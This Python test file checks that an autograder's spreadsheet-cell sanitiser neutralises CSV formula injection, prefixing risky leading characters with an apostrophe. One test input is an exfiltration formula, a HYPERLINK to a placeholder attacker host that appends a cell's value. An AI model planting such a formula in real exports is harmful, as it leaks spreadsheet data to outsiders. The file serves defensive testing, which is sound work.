"""Whatever a name, an id or a comment says, a spreadsheet shows it and executes nothing."""

from __future__ import annotations

import csv
import io
import math

import pytest
from hypothesis import given
from hypothesis import strategies as st

from autograder.spreadsheet import cell

SIGNS = "=+-@＝＋－＠"


@pytest.mark.parametrize(
    "formula",
    [
        '=HYPERLINK("http://evil.example/?"&A1)', "+1+1", "-2+3", "@SUM(A1)", "＝1+1",
        "  =1", "\t=1", "\r=1", "\n=1", '"=1', "'=1", "\x00=1", "\ufeff=1", "\u202e=1", "\u00a0=1",
        "-1.5", "\tindented", "\rreturned", "\nnext line",
    ],
)  # fmt: skip
def test_text_that_a_spreadsheet_would_execute_gets_an_apostrophe(formula: str) -> None:
    assert str(cell(formula)).startswith("'")
    assert str(cell(formula)).replace("'", "") == formula.replace("'", "")


@pytest.mark.parametrize(
    "text", ["", "Bo", "O'Neil", 'Ann "Annie", PhD', "王 小明", "نور", "🙂", "a=b", "s-01", "x; y"]
)
def test_other_text_stays_as_it_is(text: str) -> None:
    assert cell(text) == text


def test_numbers_stay_numbers_and_nothing_is_an_empty_cell() -> None:
    assert [cell(value) for value in (-1.5, 0, 0.0, 17, True)] == [-1.5, 0, 0.0, 17, True]
    assert cell(None) == ""
    assert cell(-math.inf) == "'-inf"


def test_a_cell_stays_harmless_where_another_separator_ends_it() -> None:
    assert cell("Bo;=1+1") == "Bo;'=1+1"
    assert cell("good\n- one\n\n- two") == "good\n'- one\n\n'- two"


# Mostly what matters here, so that few examples find what is wrong.
TEXT = st.text(st.sampled_from([*SIGNS, *" ;,\t\r\n\"'ax\x00\u200b\u202e王🙂"]) | st.characters())


@given(st.lists(TEXT, min_size=1, max_size=4), st.sampled_from([",", ";", "\t"]))
def test_no_cell_of_any_row_is_executed_whatever_the_separator(
    row: list[str], separator: str
) -> None:
    file = io.StringIO(newline="")
    csv.writer(file).writerow([cell(value) for value in row])
    file.seek(0)
    for read in csv.reader(file, delimiter=separator):
        for found in read:
            seen = found.lstrip(" \"'\x00\u00a0\u200b\u202e\ufeff")
            assert not seen.startswith(tuple(SIGNS)) or found.startswith("'")
